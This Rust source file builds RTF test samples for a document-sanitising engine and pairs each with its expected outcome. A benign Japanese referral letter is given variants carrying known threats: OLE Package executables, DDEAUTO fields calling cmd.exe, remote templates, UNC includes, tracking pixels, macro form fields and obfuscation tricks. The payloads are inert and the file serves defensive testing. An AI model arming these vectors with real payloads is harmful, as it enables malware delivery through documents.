//! RTF samples: one document per row of the RTF threat list, benign and malformed variants.
//!
//! Every document is written as RTF text by the functions here: a letter with Japanese text (in
//! code page 932 `\'hh` escapes and as `\uN` with its fallback), a picture in hex and one in
//! `\bin` form, a page field and a web link; and variants that each carry one threat (an OLE
//! Package object holding a program, an auto-updating linked object, a remote template, DDE and
//! INCLUDEPICTURE fields, a data store, a linked shape picture, a form field macro, hidden
//! obfuscations) or one structural fault (unbalanced groups, an unterminated `\bin`, deep
//! nesting, data after the end).
//!
//! [`all`] lists them with the outcome the engine must reach under the default configuration;
//! `examples/gen_samples.rs` writes them to `samples/rtf/` with `EXPECTED.tsv`. The payloads are
//! inert: the packaged "program" is a PE header without code, the DDE command echoes.
//! [`large_rtf`] makes a benign document of a chosen size, with pictures, for the benchmarks.

use super::media::{self, Prng};
use super::{Expected, Sample};
use crate::model::{ActionKind, Reason};

/// Words of the benign letter that every rebuilt sample must keep.
pub const LETTER_WORDS: [&str; 3] = ["Referral", "Yamada", "discharge"];

/// 診療情報提供書 (medical referral letter) in Shift_JIS, as Word writes it in code page 932.
pub const JA_TITLE_SJIS: &str = "\\'90\\'66\\'97\\'c3\\'8f\\'ee\\'95\\'f1\\'92\\'f1\\'8b\\'9f\\'8f\\'91";
/// 山田太郎 様 as `\uN` with a Shift_JIS fallback of two bytes each (`\uc2`).
pub const JA_NAME_UNICODE: &str =
    "\\uc2\\u23665\\'8e\\'52\\u30000\\'93\\'63\\u22826\\'91\\'be\\u37070\\'98\\'59 \\u27096\\'97\\'6c\\uc1";

/// The result words of fields and objects that must survive their removal.
pub const DDE_RESULT: &str = "Marmalade";
pub const OBJECT_RESULT: &str = "Invoice";
pub const INCLUDE_RESULT: &str = "Letterhead";
pub const OBFUSCATED_RESULT: &str = "Tangerine";
pub const LINK_TEXT: &str = "Minutes";
pub const FORM_TEXT: &str = "Patient";

const HEADER: &str = "{\\rtf1\\ansi\\ansicpg932\\deff0\\deflang1033\\deflangfe1041\
{\\fonttbl{\\f0\\fswiss\\fcharset0 Arial;}{\\f1\\fnil\\fcharset128 \\'82\\'6c\\'82\\'72 \\'96\\'be\\'92\\'a9;}}\
{\\colortbl;\\red0\\green0\\blue0;\\red31\\green78\\blue121;}\
{\\*\\generator mugai samples;}{\\info{\\title Referral}{\\author mugai}}\
\\viewkind4\\uc1\\pard\\f0\\fs22\\lang1033 ";

/// The benign letter's body: Japanese, English, a field, a web link, two pictures.
fn letter_body() -> String {
    let png = hex::encode(media::sample_png());
    let mut s = String::new();
    s.push_str(&format!("{{\\f1\\lang1041 {JA_TITLE_SJIS}}}\\par\r\n"));
    s.push_str("{\\b Referral} for {\\f1 ");
    s.push_str(JA_NAME_UNICODE);
    s.push_str("} (Yamada Taro), after discharge from ward 3.\\par\r\n");
    s.push_str("Page {\\field{\\*\\fldinst { PAGE }}{\\fldrslt {1}}} of the letter; see ");
    s.push_str("{\\field{\\*\\fldinst { HYPERLINK \"https://hospital.example.org/guide\" }}{\\fldrslt {\\ul\\cf2 the guide}}}.\\par\r\n");
    s.push_str("{\\pict\\pngblip\\picw16\\pich16\\picwgoal240\\pichgoal240\r\n");
    for line in png.as_bytes().chunks(64) {
        s.push_str(std::str::from_utf8(line).unwrap_or(""));
        s.push_str("\r\n");
    }
    s.push_str("}\\par\r\n");
    s
}

/// A picture given as raw `\bin` data; the sample picture's bytes include braces and
/// backslashes only by chance, so a run of them is added to make sure.
fn bin_picture() -> Vec<u8> {
    let mut png = media::sample_png();
    png.extend_from_slice(b"{}\\}{");
    let mut out = format!("{{\\pict\\pngblip\\picw16\\pich16\\bin{} ", png.len()).into_bytes();
    out.extend_from_slice(&png);
    out.extend_from_slice(b"}\\par\r\n");
    out
}

/// A document: the header, the letter, `body` and the closing brace.
fn doc(body: &str) -> Vec<u8> {
    let mut out = HEADER.as_bytes().to_vec();
    out.extend_from_slice(letter_body().as_bytes());
    out.extend_from_slice(body.as_bytes());
    out.extend_from_slice(b"\\par}\r\n");
    out
}

/// Hex lines as Word writes object data (lower case, 128 digits a line).
fn hex_lines(data: &[u8], upper: bool) -> String {
    let h = if upper { hex::encode_upper(data) } else { hex::encode(data) };
    h.as_bytes().chunks(128).map(|c| String::from_utf8_lossy(c).into_owned()).collect::<Vec<_>>().join("\r\n")
}

/// An OLE 1.0 embedded object as RTF stores it in `\objdata`: version, format (2 = embedded),
/// class name, empty topic and item, then the native data.
pub fn ole1_embedded(class: &str, native: &[u8]) -> Vec<u8> {
    let mut d = Vec::new();
    d.extend_from_slice(&0x0501u32.to_le_bytes());
    d.extend_from_slice(&2u32.to_le_bytes());
    let mut class_z = class.as_bytes().to_vec();
    class_z.push(0);
    d.extend_from_slice(&(class_z.len() as u32).to_le_bytes());
    d.extend_from_slice(&class_z);
    d.extend_from_slice(&0u32.to_le_bytes());
    d.extend_from_slice(&0u32.to_le_bytes());
    d.extend_from_slice(&(native.len() as u32).to_le_bytes());
    d.extend_from_slice(native);
    d
}

/// The result picture an object shows.
fn result_picture() -> String {
    format!("{{\\pict\\pngblip\\picw16\\pich16\r\n{}\r\n}}", hex_lines(&media::sample_png(), false))
}

pub fn benign_letter() -> Vec<u8> {
    let mut out = HEADER.as_bytes().to_vec();
    out.extend_from_slice(letter_body().as_bytes());
    out.extend_from_slice(&bin_picture());
    out.extend_from_slice(b"{\\trowd\\cellx3000\\cellx6000 Ward\\cell 3\\cell\\row}\\pard\r\n");
    out.extend_from_slice(b"\\par}\r\n");
    out
}

/// An OLE Package object holding `invoice.exe`, shown as a picture.
pub fn ole_package_object() -> Vec<u8> {
    let objdata = ole1_embedded("Package", &media::ole10_native("invoice.exe", &media::pe_header()));
    doc(&format!(
        "{OBJECT_RESULT} attached:\\par\r\n{{\\object\\objemb\\objw1200\\objh800{{\\*\\objclass Package}}{{\\*\\objdata\r\n{}\r\n}}{{\\result {}}}}}\\par\r\n",
        hex_lines(&objdata, false),
        result_picture()
    ))
}

/// A linked worksheet that updates itself when the document opens.
pub fn objupdate_link() -> Vec<u8> {
    let link = ole1_embedded("Excel.Sheet.12", b"\\\\fileserver\\share\\prices.xlsx\0Sheet1!R1C1:R4C3\0");
    doc(&format!(
        "Prices:\\par\r\n{{\\object\\objautlink\\objupdate\\rsltpict\\objw2400\\objh900{{\\*\\objclass Excel.Sheet.12}}{{\\*\\objname \\\\\\\\fileserver\\\\share\\\\prices.xlsx}}{{\\*\\objdata {}}}{{\\result {}}}}}\\par\r\n",
        hex_lines(&link, false),
        result_picture()
    ))
}

/// An attached template fetched from a web server when the document opens.
pub fn remote_template() -> Vec<u8> {
    let mut out = HEADER.as_bytes().to_vec();
    out.extend_from_slice(b"{\\*\\template http://templates.example.invalid/letter.dotm}\r\n");
    out.extend_from_slice(letter_body().as_bytes());
    out.extend_from_slice(b"\\par}\r\n");
    out
}

pub fn ddeauto_field() -> Vec<u8> {
    doc(&format!(
        "Figures: {{\\field\\flddirty{{\\*\\fldinst {{ DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/c echo mugai test\" }}}}{{\\fldrslt {{{DDE_RESULT}}}}}}}\\par\r\n"
    ))
}

pub fn includepicture_unc() -> Vec<u8> {
    doc(&format!(
        "{INCLUDE_RESULT}: {{\\field{{\\*\\fldinst {{ INCLUDEPICTURE \"\\\\\\\\\\\\\\\\fileserver\\\\\\\\share\\\\\\\\logo.png\" \\\\* MERGEFORMATINET \\\\d }}}}{{\\fldrslt {}}}}}\\par\r\n",
        result_picture()
    ))
}

/// A data store holding a compound file, as exploit documents carry one.
pub fn datastore() -> Vec<u8> {
    let cf = media::compound_file(&[], &[("/Contents", b"mugai test data store")]);
    let mut store = 0x0105u32.to_le_bytes().to_vec();
    store.extend_from_slice(&cf);
    doc(&format!("{{\\*\\datastore {}\r\n}}\r\n", hex_lines(&store, false)))
}

/// Tricks seen in exploit documents: object words split by line breaks and tabs, object data
/// in upper-case hex broken by empty groups, unknown control words and a `\bin` run carrying
/// braces, object data without `\*` and not first in its group, and a DDE field whose keyword
/// is spelled with hex escapes, a `\u` character and split across groups.
pub fn obfuscated() -> Vec<u8> {
    let objdata = ole1_embedded("Package", &media::ole10_native("run.exe", &media::pe_header()));
    let h = hex_lines(&objdata, true);
    let (a, b) = h.split_at(24);
    doc(&format!(
        "{{\\object\r\n\t\\objemb\r\n\\objw100\\objh100{{\\*\\objclass Package}}{{\\*\\objdata {a}{{}}\\foo12\\barbaz \\bin3 }}{{\r\n{b}}}{{\\result {{{OBFUSCATED_RESULT} box}}}}}}\\par\r\n\
         Also {{\\b \\objdata 01050000020000000800000050616B6167650000000000000000000000000000}}.\\par\r\n\
         {{\\field{{\\*\\fldinst {{D}}{{\\*\\bkmkstart x}}\\u68 D\\'45{{AUTO}} c:\\\\\\\\x.exe}}{{\\fldrslt {OBFUSCATED_RESULT} total}}}}\\par\r\n"
    ))
}

/// A field whose instruction is built at run time from a nested field.
pub fn nested_field_code() -> Vec<u8> {
    doc(&format!(
        "{{\\field{{\\*\\fldinst {{\\field{{\\*\\fldinst QUOTE 68 68 69}}{{\\fldrslt DDE}}}} c:\\\\\\\\x.exe x}}{{\\fldrslt {DDE_RESULT}}}}}\\par\r\n"
    ))
}

/// A hyperlink to a network share (the web link of the letter stays).
pub fn hyperlink_unc() -> Vec<u8> {
    doc(&format!(
        "{{\\field{{\\*\\fldinst {{ HYPERLINK \"\\\\\\\\\\\\\\\\fileserver\\\\\\\\share\\\\\\\\minutes.docx\" }}}}{{\\fldrslt {{\\ul {LINK_TEXT} of the meeting}}}}}}\\par\r\n"
    ))
}

/// A shape whose picture is fetched from a web server (`pibName` with the linked flag).
pub fn linked_shape_picture() -> Vec<u8> {
    doc("{\\shp{\\*\\shpinst\\shpleft0\\shptop0\\shpright2000\\shpbottom2000\\shpwr3{\\sp{\\sn shapeType}{\\sv 75}}{\\sp{\\sn pibName}{\\sv http://tracker.example.invalid/pixel.png}}{\\sp{\\sn pibFlags}{\\sv 10}}}}\\par\r\n")
}

/// A text form field that runs a macro when the cursor enters it.
pub fn form_field_macro() -> Vec<u8> {
    doc(&format!(
        "{FORM_TEXT}: {{\\field{{\\*\\fldinst {{ FORMTEXT {{\\*\\formfield{{\\fftype0\\ffownhelp\\ffownstat\\fftypetxt0{{\\*\\ffname Text1}}{{\\*\\ffentrymcr AutoRun}}{{\\*\\ffexitmcr AutoClose}}}}}}}}}}{{\\fldrslt {{name}}}}}}\\par\r\n"
    ))
}

/// Object data appended after the document's closing brace.
pub fn trailing_payload() -> Vec<u8> {
    let mut out = doc("");
    let objdata = ole1_embedded("Package", &media::ole10_native("late.exe", &media::pe_header()));
    out.extend_from_slice(
        format!("{{\\object\\objemb{{\\*\\objdata {}}}}}\r\n", hex_lines(&objdata, false)).as_bytes(),
    );
    out
}

/// A document whose last two groups are never closed.
pub fn unbalanced_open() -> Vec<u8> {
    let mut out = HEADER.as_bytes().to_vec();
    out.extend_from_slice(letter_body().as_bytes());
    out.extend_from_slice(b"{\\b The end is missing");
    out
}

/// An extra closing brace ends the document early; what follows is not part of it.
pub fn extra_close_brace() -> Vec<u8> {
    let mut out = HEADER.as_bytes().to_vec();
    out.extend_from_slice(letter_body().as_bytes());
    out.extend_from_slice(b"}\\par More text after an extra brace.\\par}\r\n");
    out
}

/// How deep the deep-nesting sample goes (beyond the default `max_nesting` of 64).
pub const DEEP_NESTING: usize = 500;

pub fn deep_nesting() -> Vec<u8> {
    nested_groups(DEEP_NESTING)
}

/// The letter with a run of bold text nested `depth` groups deep (`{\b {\b ... deep}}`).
pub fn nested_groups(depth: usize) -> Vec<u8> {
    doc(&format!("{}deep{}", "{\\b ".repeat(depth), "}".repeat(depth)))
}

pub fn unterminated_bin() -> Vec<u8> {
    let mut out = HEADER.as_bytes().to_vec();
    out.extend_from_slice(b"{\\pict\\pngblip\\bin99999 ");
    out.extend_from_slice(&media::sample_png());
    out.extend_from_slice(b"}\\par}\r\n");
    out
}

/// Object data directly in the document's own group: removing it would remove the document.
pub fn object_in_document_group() -> Vec<u8> {
    let objdata = ole1_embedded("Package", &media::ole10_native("x.exe", &media::pe_header()));
    let mut out = HEADER.as_bytes().to_vec();
    out.extend_from_slice(format!("Text\\par\\objdata {}}}\r\n", hex_lines(&objdata, false)).as_bytes());
    out
}

/// A `\'` escape that swallows a brace: readers disagree on the structure after it.
pub fn ambiguous_escape() -> Vec<u8> {
    doc("{\\b x\\'4}{\\object\\objdata 0105}}")
}

/// A benign document of about `target` bytes: paragraphs of text with a noise picture (in hex)
/// every few paragraphs.
pub fn large_rtf(target: usize) -> Vec<u8> {
    let mut rng = Prng::new(0x0005_EED0_F27F);
    let mut out = HEADER.as_bytes().to_vec();
    out.extend_from_slice(letter_body().as_bytes());
    let mut i = 0usize;
    while out.len() < target {
        i += 1;
        out.extend_from_slice(
            format!(
                "{{\\b Section {i}}} {{\\f1 {JA_TITLE_SJIS}}} The patient was seen in the ward and the findings were recorded for the referral.\\par\r\n"
            )
            .as_bytes(),
        );
        if i.is_multiple_of(8) {
            let png = media::noise_png(48, 48, &mut rng);
            out.extend_from_slice(
                format!("{{\\pict\\pngblip\\picw48\\pich48\r\n{}\r\n}}\\par\r\n", hex_lines(&png, false)).as_bytes(),
            );
        }
    }
    out.extend_from_slice(b"\\par}\r\n");
    out
}

fn sample(file_name: &'static str, bytes: Vec<u8>, expected: Expected) -> Sample {
    Sample { file_name, bytes, expected }
}

/// Every RTF sample, in a fixed order.
pub fn all() -> Vec<Sample> {
    use ActionKind::*;
    let rtf = |actions: &[ActionKind]| Expected::disarmed("rtf", actions).keeping(&LETTER_WORDS);
    vec![
        sample("benign_letter_ja.rtf", benign_letter(), Expected::clean("rtf").keeping(&LETTER_WORDS)),
        sample("ole_package_exe.rtf", ole_package_object(), rtf(&[RemovedOleObject]).keeping(&[OBJECT_RESULT])),
        sample("ole_package_exe_named.doc", ole_package_object(), Expected::disarmed("doc", &[RemovedOleObject])),
        sample("objupdate_link.rtf", objupdate_link(), rtf(&[RemovedOleObject])),
        sample("remote_template.rtf", remote_template(), rtf(&[RemovedAttachedTemplate])),
        sample("ddeauto_field.rtf", ddeauto_field(), rtf(&[RemovedDdeField]).keeping(&[DDE_RESULT])),
        sample(
            "includepicture_unc.rtf",
            includepicture_unc(),
            rtf(&[RemovedDangerousField]).keeping(&[INCLUDE_RESULT]),
        ),
        sample("datastore.rtf", datastore(), rtf(&[RemovedDataStore])),
        sample(
            "obfuscated.rtf",
            obfuscated(),
            rtf(&[RemovedOleObject, RemovedDdeField]).keeping(&[OBFUSCATED_RESULT, "box", "total"]),
        ),
        // The nested field's cached result spells DDE: reported as DDE or as a built code.
        sample(
            "nested_field_code.rtf",
            nested_field_code(),
            rtf(&[]).or_one_of(&[RemovedDangerousField, RemovedDdeField]).keeping(&[DDE_RESULT]),
        ),
        sample("hyperlink_unc.rtf", hyperlink_unc(), rtf(&[RemovedExternalReference]).keeping(&[LINK_TEXT])),
        sample("linked_shape_picture.rtf", linked_shape_picture(), rtf(&[RemovedExternalReference])),
        sample("form_field_macro.rtf", form_field_macro(), rtf(&[RemovedDangerousField]).keeping(&[FORM_TEXT])),
        sample("trailing_payload.rtf", trailing_payload(), rtf(&[RemovedTrailingData])),
        sample("unbalanced_open.rtf", unbalanced_open(), rtf(&[RepairedStructure]).keeping(&["missing"])),
        sample("extra_close_brace.rtf", extra_close_brace(), rtf(&[RemovedTrailingData])),
        sample("blocked_deep_nesting.rtf", deep_nesting(), Expected::blocked(Reason::LimitNesting)),
        sample("blocked_unterminated_bin.rtf", unterminated_bin(), Expected::blocked(Reason::Malformed)),
        sample("blocked_ambiguous_escape.rtf", ambiguous_escape(), Expected::blocked(Reason::Malformed)),
        sample("blocked_object_in_document.rtf", object_in_document_group(), Expected::blocked(Reason::Unsupported)),
    ]
}
